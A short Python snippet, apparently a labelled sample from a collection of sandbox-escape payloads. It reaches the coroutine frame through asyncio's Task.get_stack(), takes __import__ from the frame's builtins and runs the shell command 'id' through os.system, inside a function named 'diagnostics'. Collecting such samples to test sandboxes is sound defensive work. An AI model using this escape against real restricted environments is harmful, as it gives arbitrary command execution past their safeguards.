# class: reflective | technique: asyncio's Task.get_stack() hands out the running coroutine's frame; its globals hold __builtins__, whose __import__ loads os | effect: runs `id`
import asyncio


async def diagnostics():
    task = asyncio.current_task()
    frame = task.get_stack()[0]
    namespace = frame.f_globals
    loader = vars(namespace["__builtins__"])["__import__"]
    loader("os").system("id")


asyncio.run(diagnostics())
